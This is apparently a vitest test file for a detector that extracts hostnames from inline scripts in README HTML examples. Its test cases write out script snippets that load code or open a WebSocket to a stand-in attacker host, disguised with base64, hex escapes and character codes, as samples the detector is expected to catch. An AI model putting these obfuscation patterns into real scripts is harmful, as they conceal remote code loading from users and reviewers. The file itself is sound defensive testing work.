import { describe, expect, it } from 'vitest';
import type { ScriptFact } from '../rules/_core/facts.ts';
import { examplesOf, factsOfExample } from './support/readme-example.ts';

function scriptOf(text: string): ScriptFact {
  const [example] = examplesOf(`\`\`\`html fails\n<script>${text}</script>\n\`\`\``);
  const script = example && factsOfExample(example).scripts?.[0];
  if (!script) throw new Error('no script');
  return script;
}

const escapes = (text: string): string =>
  [...text].map((sign) => `\\x${sign.charCodeAt(0).toString(16)}`).join('');

describe('hosts in disguise', () => {
  it.each([
    ['base64', `load(atob('${btoa('https://cdn.evil.example/a.js')}'))`],
    ['base64 without a scheme', `load(atob("${btoa('//cdn.evil.example/a.js')}"))`],
    ['base64 of a WebSocket', `new WebSocket(atob('${btoa('wss://cdn.evil.example/s')}'))`],
    ['escapes', `load("${escapes('https://cdn.evil.example/a.js')}")`],
    ['escaped base64', `load(atob("${escapes(btoa('https://cdn.evil.example/a.js'))}"))`],
    ['character codes', `go([${[...'https://cdn.evil.example/'].map((c) => c.charCodeAt(0))}])`],
  ])('are read from %s', (_, text) => {
    expect(scriptOf(text).hosts).toEqual(['cdn.evil.example']);
  });

  it.each([
    ['other base64', `var icon = "${btoa('{"u":"https://cdn.example"} and so on')}"`],
    ['an identifier that only begins like one', "var id = 'Ly7abcdefghijklmnopqrs'"],
    ['numbers', 'var years = [1990, 1991, 1992, 1993, 1994, 1995, 1996, 1997, 1998, 1999]'],
  ])('are not seen in %s', (_, text) => {
    expect(scriptOf(text).hosts).toEqual([]);
  });

  it('are found in a hostile script as quickly as in any other', () => {
    const began = performance.now();
    for (const piece of ["'", '1', '12,', "'aHR0c", '\\x4', "'aHR0cHM6Ly9".padEnd(9000, 'A')]) {
      scriptOf(piece.repeat(Math.ceil(65_536 / piece.length)));
    }
    expect(performance.now() - began).toBeLessThan(2000);
  });
});
